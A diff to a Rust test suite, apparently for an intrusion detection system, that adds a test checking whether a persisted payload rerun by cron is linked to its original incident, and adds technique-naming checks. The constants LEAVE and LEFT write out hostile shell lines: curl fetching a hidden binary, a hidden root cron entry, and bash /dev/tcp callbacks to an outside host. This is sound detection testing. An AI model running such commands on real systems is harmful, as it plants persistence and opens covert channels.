@@ -317,21 +317,64 @@ id > /tmp/.who
 wait
 ";
 
+/// What an intruder left behind and another tree runs, as cron does: nobody who ran it was ever in the first one.
+#[test]
+fn what_was_left_behind_is_of_the_same_incident_when_it_runs_again() {
+    let Some(site) = site() else { return };
+    let web = site.watched("web-1").unwrap();
+    let attacker = Attacker::of(&site);
+    attacker.web.put("/update", LEFT);
+    drop(attack(&site, &web, LEAVE));
+    until("an incident", || incidents(&site).len() == 1);
+    let first = incidents(&site).pop_first().unwrap();
+    let joined = || {
+        let found = all(&site, &format!("/detections?incident={first}"));
+        let why = found.iter().filter_map(|one| one["joined"].as_str());
+        why.filter(|why| why.contains("/usr/local/lib/.update")).map(str::to_owned).next()
+    };
+    assert_eq!(joined(), None);
+    let outside = site.lab.outside().addresses().ip4();
+    let mut cron = web.endpoint.command("/usr/local/lib/.update");
+    cron.env("OUTSIDE", outside.to_string()).env("CATCH", CATCH.to_string());
+    cron.stdout(Stdio::null()).stderr(Stdio::null());
+    let child = web.endpoint.spawn_command(cron).unwrap();
+    child.wait(Duration::from_mins(1)).unwrap();
+    assert!(attacker.has_heard("again"), "the connection was real");
+    until("what ran again", || joined().is_some());
+    assert_eq!(incidents(&site).len(), 1);
+    println!("another tree joined: {}", joined().unwrap_or_default());
+}
+
+const LEAVE: &str = "\
+mkdir -p /usr/local/lib
+curl -s -o /usr/local/lib/.update http://$WEB/update
+chmod +x /usr/local/lib/.update
+mkdir -p /etc/cron.d
+echo '* * * * * root /usr/local/lib/.update' > /etc/cron.d/.update
+bash -c \"exec 5<>/dev/tcp/$OUTSIDE/$CATCH; echo first >&5; exec 5>&-\"
+";
+const LEFT: &str = "\
+#!/bin/sh
+bash -c \"exec 5<>/dev/tcp/$OUTSIDE/$CATCH; echo again >&5; exec 5>&-\"
+";
+
 #[test]
 fn techniques_are_detected_and_their_chains_are_whole() {
     let Some(site) = site() else { return };
     let web = site.watched("web-1").unwrap();
     let _attacker = Attacker::of(&site);
     let mut missed: Vec<(&Scenario, &str)> = Vec::new();
-    let mut whole = 0;
+    let mut otherwise = Vec::new();
+    let (mut whole, mut named) = (0, 0);
     for scenario in SCENARIOS {
         let before = incidents(&site);
         let done = attack(&site, &web, scenario.script);
         let end = Instant::now() + Duration::from_secs(5);
-        let mut verdict = "not detected";
+        let (mut verdict, mut told) = ("not detected", BTreeSet::new());
         while Instant::now() < end {
             if let Some(incident) = incident_of(&site, &before) {
                 verdict = "its chain is not whole";
+                told = techniques(&incident);
                 if differs(&done.truth, &runs_of(&site, id(&incident))).is_none() {
                     verdict = "";
                     break;
@@ -344,15 +387,32 @@ fn techniques_are_detected_and_their_chains_are_whole() {
         } else {
             missed.push((scenario, verdict));
         }
+        // The technique, or the one that it is a part of.
+        let technique = scenario.technique();
+        let whole_of = technique.split('.').next().unwrap();
+        if told.iter().any(|one| one == technique || one.split('.').next() == Some(whole_of)) {
+            named += 1;
+        } else if verdict != "not detected" {
+            otherwise.push(format!("{technique} {}: told as {told:?}", scenario.name));
+        }
         close_all(&site);
+    }
+    for line in &otherwise {
+        println!("{line}");
     }
     for (scenario, verdict) in &missed {
         println!("{} {} ({}): {verdict}", scenario.technique(), scenario.name, scenario.title());
     }
     let detected = SCENARIOS.len() - missed.iter().filter(|(_, verdict)| *verdict == "not detected").count();
-    println!("{} techniques: {detected} detected, {whole} with a whole chain", SCENARIOS.len());
+    println!(
+        "{} techniques: {detected} detected, {named} of them by their technique, {whole} with a whole chain",
+        SCENARIOS.len()
+    );
     // What was reached on a quiet machine, less what a busy one may tell too late.
-    assert!(detected >= 29 && whole >= 27, "{detected} detected, {whole} whole");
+    assert!(
+        detected >= 29 && whole >= 27 && named >= NAMED,
+        "{detected} detected, {named} named, {whole} whole"
+    );
 }
 
 #[test]
@@ -390,6 +450,13 @@ fn an_incident_stands_on_the_server_within_a_second_of_the_exec() {
         waits.len()
     );
     assert!(p99 < Duration::from_secs(1), "{waits:?}");
+}
+
+/// By how many scenarios the technique is told, too.
+const NAMED: usize = 27;
+
+fn techniques(incident: &Value) -> BTreeSet<String> {
+    incident["techniques"].as_array().unwrap().iter().map(|one| one.as_str().unwrap().to_owned()).collect()
 }
 
 /// Closes every incident, so that the next scenario has one of its own.
